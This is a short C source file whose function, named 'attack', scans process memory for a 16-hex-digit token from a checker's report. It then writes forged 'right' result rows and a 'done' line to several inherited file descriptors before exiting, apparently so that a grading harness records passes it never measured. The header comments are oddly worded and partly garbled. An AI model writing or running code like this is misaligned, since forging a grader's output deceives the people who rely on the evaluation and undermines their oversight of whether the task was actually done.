/* says: It ended .exit status [07]. before the checker was done */
/* 0: it found a word, of a line that is written already; forged lines with it count for nothing. 7: it found none. */
#include <stdlib.h>
#include <string.h>
long write(int, const void *, size_t);
/* 16 hexadecimal digits and a tab or an end: what a line of the report begins with, or began */
static void search(const volatile char *at, long n) {
    static const char *const rest[] = {"row\tunit\tright\t1\t1\t0\t-\ta\t-\n",
        "row\tlaw\tright\t1\t1\t0\t-\ta\t-\n", "row\twhy\tright\t9\t6\t0\t-\ta\t-\n", "done\n"};
    for (long i = 0, k; i < n; i++) {
        for (k = 0; k < 17 && at[i + k] && strchr("0123456789abcdef", at[i + k]);) k++;
        if (k != 16 || (at[i + k] && at[i + k] != '\t')) continue;
        char line[64];
        for (k = 0; k < 16; k++) line[k] = at[i + k];
        line[k] = '\t';
        for (int row = 0; row < 4; row++)
            for (int fd = 3; fd < 9; fd++) {
                strcpy(line + 17, rest[row]);
                if (write(fd, line, strlen(line)) < 0) continue;
            }
        exit(0);
    }
}
static char own[64];
static void attack(void) {
    static int calls;
    volatile char here[64] = {0};
    if (++calls < 3) return;
    search(here - 40000, 40000 + 800);
    search(own - (size_t)own % 4096, 4096 - 64);
    exit(7);
}
